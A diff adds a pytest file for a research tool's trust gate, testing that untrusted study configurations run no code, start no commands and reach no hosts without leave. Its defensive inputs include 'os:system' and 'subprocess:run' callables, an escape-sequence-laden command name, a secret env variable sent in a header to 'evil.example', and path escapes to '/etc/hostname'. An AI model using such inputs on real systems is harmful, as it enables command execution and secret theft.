@@ -1,0 +1,298 @@
+"""A study is data: what it would run, read or call is listed, and nothing of it happens before somebody allows it."""
+
+import json
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from openiir.core.storage import RunFile
+from openiir.kit.rankers import RankerName
+from openiir.plugin import CallableName, Record, trusting
+from openiir.runs.settings import Settings
+from openiir.runs.sweep.bench import Bench
+from openiir.runs.trust import Trust, Untrusted, permissions_of
+
+CODE = """from pathlib import Path
+import sys
+
+Path(__file__).with_name("canary").touch()
+
+
+def rank(view):
+    return view.cosine(view.taste)
+
+
+def recommend(train, collection, seed, **options):
+    Path(__file__).with_name("canary").touch()
+
+
+class Bot:
+    def __call__(self, request):
+        return "Hello."
+"""
+FEED = (
+    'type = "curated_feed"\nname = "feed"\n[config]\nusers = 2\nweeks = 2\nsessions = 1\nslots = 2\ncandidates = 5\n'
+    "audit_users = 1\naudit_items = 5\nitems.per_week = 10\n"
+)
+RANKED = FEED + 'beside = []\nranker = "code_of_theirs:rank"\n'
+LISTS = 'type = "recommender"\nname = "lists"\n[config]\nusers = 2\n'
+EVENING = 'type = "parlour"\nname = "evening"\npersonas = "people.toml"\n[world]\nsources = ["sea.md"]\ndimensions = 2\n'
+HTTP = EVENING + '[system.x]\nconnector = "http"\nresponse = "text"\n'
+STDIO = EVENING + '[system.x]\nconnector = "stdio"\nformat = "text"\n'
+PYTHON = EVENING + '[system.x]\nconnector = "python"\n'
+TOUCH = f'command = ["{sys.executable}", "code_of_theirs.py"]\n'
+
+HOSTILE = {
+    # what it does: (the study, what has to be said)
+    "a ranker": (FEED + 'ranker = "code_of_theirs:rank"\n', "code_of_theirs:rank (config.ranker)"),
+    "a ranker of the library": (FEED + 'ranker = "os:system"\n', "os:system (config.ranker)"),
+    "a ranker beside": (FEED + 'beside = ["code_of_theirs:rank"]\n', "code_of_theirs:rank (config.beside)"),
+    "a ranker in the log": (FEED + 'evaluate = ["code_of_theirs:rank"]\n', "code_of_theirs:rank (config.evaluate)"),
+    "a ranker from a step on": (
+        FEED + '[[change]]\nstep = 2\nset = { ranker = "code_of_theirs:rank" }\n', "code_of_theirs:rank (config.ranker)"
+    ),
+    "a ranker in a file": (FEED + 'beliefs = { file = "code.toml" }\nranker = "code_of_theirs:rank"\n', "rank (config.ranker)"),
+    "a recommender": (LISTS + 'systems = ["code_of_theirs:recommend"]\n', "code_of_theirs:recommend (config.systems.by)"),
+    "a recommender with options": (
+        LISTS + 'systems = [{ name = "x", by = "subprocess:run", options = { args = ["touch", "canary"] } }]\n',
+        "subprocess:run (config.systems.by)",
+    ),
+    "a recommender for a first visit": (
+        LISTS + 'visitors = { warm_up = "code_of_theirs:recommend" }\n', "recommend (config.visitors.warm_up)"
+    ),
+    "a pipeline of classes": (LISTS + 'systems = ["lenskit:pipeline.toml"]\n', "pipeline.toml (config.systems.by)"),
+    "a function that makes a pipeline": (LISTS + 'systems = ["lenskit:code_of_theirs:rank"]\n', "code_of_theirs:rank (config"),
+    "a callable system": (PYTHON + 'callable = "code_of_theirs:Bot"\n', "code_of_theirs:Bot ([system.x])"),
+    "a shell": (
+        PYTHON + 'callable = "os:system"\nrequest = "touch canary"\n', 'os:system, with "touch canary" ([system.x])'
+    ),
+    "a command": (STDIO + TOUCH, "starts the command"),
+    "a command that hides": (STDIO + 'command = ["touch", "canary\\u001b[2K\\nnothing to see"]\n', "canary\\x1b[2K\\nnothing to see"),
+    "a variable for a command": (STDIO + TOUCH + 'variables = ["CANARY_KEY"]\n', "environment variable CANARY_KEY to that command"),
+    "a variable for a host": (
+        HTTP + 'url = "https://evil.example/x"\nheaders = { X = "${CANARY_KEY}" }\n',
+        "CANARY_KEY to https://evil.example ([system.x], header X)",
+    ),
+    "a variable for this machine": (
+        HTTP + 'url = "http://127.0.0.1:9/"\nheaders = { X = "${CANARY_KEY}" }\n', "CANARY_KEY to http://127.0.0.1:9"
+    ),
+    "a private address": (HTTP + 'url = "http://10.0.0.7:8080/turn"\n', "talks with http://10.0.0.7:8080, which"),
+    "a host to say goodbye to": (
+        HTTP + 'url = "http://127.0.0.1:9/"\n[system.x.close]\nurl = "https://evil.example/bye"\n', "talks with https://evil.example"
+    ),
+}
+
+
+@pytest.fixture
+def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, with_parlour: None) -> Path:
+    """Where a stranger's study lies; its module can be imported, and imports of it leave a canary."""
+    folder = tmp_path / "study"
+    folder.mkdir()
+    (folder / "code_of_theirs.py").write_text(CODE)
+    (folder / "code.toml").write_text("")
+    (folder / "pipeline.toml").write_text("")
+    (folder / "sea.md").write_text("Ropes should be checked every day because worn ropes part without a sound.\n")
+    (folder / "people.toml").write_text('[[persona]]\nid = "ada"\nname = "Ada"\nbio = "Ada fishes."\n')
+    monkeypatch.syspath_prepend(str(folder))
+    monkeypatch.delitem(sys.modules, "code_of_theirs", raising=False)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
+    monkeypatch.setenv("CANARY_KEY", "secret-of-mine")
+    monkeypatch.chdir(folder)
+    monkeypatch.setattr("openiir.cli.sweeps.engine_named", lambda name: in_this_process)
+    return folder
+
+
+async def in_this_process(folder: Path, settings: Settings, cells: Any, workers: int, told: Any) -> None:
+    """Runs the cells of a sweep with what a worker process is told of the settings."""
+    bench = Bench.at(folder, Settings.model_validate(settings.model_dump(mode="json")))
+    for cell in cells:
+        told(await bench.run(cell))
+
+
+@pytest.mark.parametrize("what", HOSTILE)
+def test_a_study_of_a_stranger_runs_nothing(what: str, place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    study, words = HOSTILE[what]
+    (place / "study.toml").write_text(study)
+    for command in (["run", "--out", tmp_path / "run"], ["audit"], ["sweep", "--out", tmp_path / "sweep"]):
+        refused = openiir(command[0], place, *command[1:])
+        assert refused.code == 2 and words in refused.err, refused.err
+        assert "openiir trust" in refused.err and "secret-of-mine" not in refused.err
+    if "system.x" in study:
+        assert openiir("doctor", "--system", place / "study.toml").code == 2
+    shown = openiir("trust", place)
+    assert shown.code == 0 and words in shown.err
+    assert not (place / "canary").exists() and "code_of_theirs" not in sys.modules
+    assert not (tmp_path / "run").exists() and not (tmp_path / "sweep").exists()
+
+
+def test_leave_is_remembered_until_a_named_file_changes(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    (place / "study.toml").write_text(RANKED)
+    assert openiir("run", place, "--trust", "--out", tmp_path / "once").code == 0
+    assert openiir("run", place, "--out", tmp_path / "run").code == 2, "leave for one run is for that run"
+    assert openiir("trust", place).code == 0
+    ran = openiir("run", place, "--set", "config.weeks=1", "--out", tmp_path / "run")
+    assert ran.code == 0, "what changes nothing of what it needs leave for asks for none"
+    assert openiir("replay", tmp_path / "run").content == ran.content
+    (place / "helper.py").write_text("import os\n")
+    for words in (("run", place, "--out", tmp_path / "new"), ("replay", tmp_path / "run")):
+        assert openiir(*words).code == 2, "Python files beside the one named may be imported by it"
+    assert openiir("trust", tmp_path / "run").code == 0
+    assert openiir("replay", tmp_path / "run").content == ran.content
+
+
+def test_runs_and_sweeps_of_a_stranger_are_studies_too(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    (place / "study.toml").write_text(RANKED + '[sweep]\n"config.epsilon" = [0.1]\n')
+    run, sweep = tmp_path / "run", tmp_path / "sweep"
+    assert openiir("run", place, "--trust", "--out", run).code == 0
+    assert openiir("sweep", place, "--trust", "--out", sweep).code == 0
+    for cell in (sweep / "cells").iterdir():
+        (cell / "manifest.json").unlink()
+    with RunFile.open(run, writable=True) as opened:
+        opened.set_state(status="stopped")
+    before = (run / "run.db").read_bytes()
+    (place / "canary").unlink()
+    sys.modules.pop("code_of_theirs")
+    for words in (("resume", run), ("fork", run, "--step", 2, "--set", "epsilon=0.5", "--out", tmp_path / "fork"), ("resume", sweep)):
+        refused = openiir(*words)
+        assert refused.code == 2 and "code_of_theirs:rank (config.ranker)" in refused.err, refused.err
+    assert (run / "run.db").read_bytes() == before and not (tmp_path / "fork").exists()
+    assert not (place / "canary").exists() and "code_of_theirs" not in sys.modules
+    assert openiir("fork", run, "--step", 2, "--set", "epsilon=0.5", "--out", tmp_path / "fork", "--trust").code == 0
+
+
+def test_values_of_a_sweep_are_listed_with_the_study(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    (place / "study.toml").write_text(FEED + 'beside = []\n[sweep]\n"config.ranker" = ["code_of_theirs:rank"]\n')
+    assert openiir("sweep", place, "--out", tmp_path / "sweep").code == 2 and not (place / "canary").exists()
+    assert "code_of_theirs:rank" in openiir("trust", place).err
+    assert openiir("sweep", place, "--out", tmp_path / "sweep").code == 0
+
+
+def test_settings_allow_by_name_command_and_host(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    settings = tmp_path / "settings.toml"
+    settings.write_text('[trust]\ncommands = ["touch canary"]\nhosts = ["evil.example"]\nvariables = ["CANARY_KEY"]\ncallables = ["a:b"]\n')
+    allowed = {
+        "touch": STDIO + 'command = "touch canary"\n',
+        "host": HTTP + 'url = "https://EVIL.example/x"\nheaders = { X = "${CANARY_KEY}" }\n',
+        "callable": PYTHON + 'callable = "a:b"\n',
+    }
+    for name, study in allowed.items():
+        (place / "study.toml").write_text(study)
+        assert openiir("run", place, "--settings", settings, "--out", tmp_path / name).code == 0, name
+    for study in (STDIO + 'command = ["touch", "canary", "x"]\n', HTTP + 'url = "https://evil.example.org/x"\n', PYTHON + 'callable = "a:c"\n'):
+        (place / "study.toml").write_text(study)
+        assert openiir("run", place, "--settings", settings, "--out", tmp_path / "other").code == 2
+    assert not (place / "canary").exists(), "a system that nobody asks is not started"
+
+
+def test_what_a_callable_is_given_is_part_of_the_leave(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    (place / "study.toml").write_text(PYTHON + 'callable = "os:getenv"\nrequest = "HOME"\n')
+    assert openiir("trust", place).code == 0 and openiir("run", place, "--out", tmp_path / "one").code == 0
+    (place / "study.toml").write_text(PYTHON + 'callable = "os:getenv"\nrequest = "CANARY_KEY"\n')
+    assert openiir("run", place, "--out", tmp_path / "two").code == 2
+
+
+def test_a_record_of_leave_that_cannot_be_read_is_named(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    (place / "study.toml").write_text(EVENING)
+    (tmp_path / "settings" / "openiir").mkdir(parents=True)
+    (tmp_path / "settings" / "openiir" / "trusted.json").write_text("[]")
+    refused = openiir("run", place, "--out", tmp_path / "run")
+    assert refused.code == 2 and "trusted.json cannot be read" in refused.err
+
+
+@pytest.mark.parametrize("study", ["panel", "curated_feed", "recommender", "conversational"])
+def test_reference_studies_need_no_leave(study: str, openiir: Callable[..., Any]) -> None:
+    assert "needs no leave" in openiir("trust", study).out
+
+
+def test_ready_declarations_on_this_machine_need_no_leave(place: Path, openiir: Callable[..., Any]) -> None:
+    (place / "study.toml").write_text(
+        EVENING + '[system.x]\nready = "openai-chat"\nurl = "http://127.0.0.1:8080/v1"\nmodel = "m"\n'
+        '[system.y]\nready = "moviebot"\nurl = "http://[::1]:5001"\n'
+    )
+    assert "needs no leave" in openiir("trust", place).out
+
+
+class Config(Record):
+    """A plug-in's keys: it brings a scorer of its own, and lets studies name others."""
+
+    scorer: CallableName = "json:loads"
+    others: dict[str, tuple[RankerName, ...]] = {}
+
+
+def test_a_plug_in_brings_its_own_callables_and_asks_for_others(place: Path) -> None:
+    class Type:
+        reference = None
+
+    Type.Config = Config  # type: ignore[attr-defined]
+
+    def needed(**values: Any) -> list[str]:
+        found = permissions_of(Type, [Config(**values)], {}, place)  # type: ignore[arg-type]
+        try:
+            Trust().check(found, "a study")
+        except Untrusted as refused:
+            return [one.name for one in refused.permissions]
+        return []
+
+    assert needed() == []
+    assert needed(scorer="json:dumps", others={"a": ("history", "x:y")}) == ["json:dumps", "x:y"]
+    (place / "json.py").write_text("")
+    assert needed() == ["json:loads"], "a file of that name in the study's folder may be what is imported"
+
+
+def test_code_that_a_type_did_not_declare_is_not_imported(place: Path) -> None:
+    from openiir.plugin import InputError, load_callable
+
+    with pytest.raises(InputError, match="not trusted here"):
+        load_callable("code_of_theirs:rank")
+    assert not (place / "canary").exists()
+    with trusting("code_of_theirs:rank"):
+        assert load_callable("code_of_theirs:rank").__name__ == "rank"
+    with pytest.raises(InputError, match="not trusted here"):
+        load_callable("code_of_theirs:rank")
+
+
+@pytest.mark.parametrize(
+    ("lines", "words"),
+    [
+        ('config.shape = { file = "../shape.toml" }', "the file ../shape.toml lies outside"),
+        ('personas = "/etc/hostname"', "personas /etc/hostname lies outside"),
+        ('personas = "${CANARY_KEY}/p.toml"', "personas ${CANARY_KEY}/p.toml: a path may begin with"),
+        ('personas = "linked.toml"', "personas linked.toml lies outside"),
+    ],
+)
+def test_paths_of_a_study_stay_in_its_folder(
+    lines: str, words: str, place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
+    (tmp_path / "shape.toml").write_text("")
+    (place / "linked.toml").symlink_to("/etc/hostname")
+    (place / "study.toml").write_text(f'type = "panel"\nconfig.topic = "Ropes should be checked"\n{lines}\n')
+    refused = openiir("run", place, "--out", tmp_path / "run")
+    assert refused.code == 2 and words in refused.err and "secret-of-mine" not in refused.err, refused.err
+
+
+def test_a_command_gets_the_variables_declared_for_it_alone(place: Path, openiir: Callable[..., Any]) -> None:
+    (place / "tell.py").write_text("import json, os, sys\nfor line in sys.stdin: print(json.dumps(sorted(os.environ)), flush=True)\n")
+    declared = f'connector = "stdio"\nformat = "text"\ncommand = ["{sys.executable}", "tell.py"]\ntimeout = 10\n'
+    (place / "quiet.toml").write_text(declared)
+    (place / "told.toml").write_text(declared + 'variables = ["CANARY_KEY"]\n')
+    quiet, told = (openiir("doctor", "--system", place / f"{name}.toml", "--trust").out for name in ("quiet", "told"))
+    assert "PATH" in quiet and "CANARY_KEY" not in quiet and "XDG_CONFIG_HOME" not in quiet
+    assert "CANARY_KEY" in told
+
+
+def test_a_key_in_the_place_of_an_endpoint_is_not_repeated(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    settings = tmp_path / "settings.toml"
+    for line in ('endpoint = "sk-canary-1234"', '[endpoint]\nurl = "sk-canary-1234"'):
+        settings.write_text(line)
+        refused = openiir("doctor", "--settings", settings)
+        assert refused.code == 2 and "canary" not in refused.err and "http://localhost" in refused.err, refused.err
+
+
+def test_leave_is_kept_with_its_words(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+    (place / "study.toml").write_text(HOSTILE["a shell"][0])
+    openiir("trust", place)
+    kept = json.loads((tmp_path / "settings" / "openiir" / "trusted.json").read_text())
+    assert list(kept.values()) == ['imports and calls the Python code os:system, with "touch canary" ([system.x])']
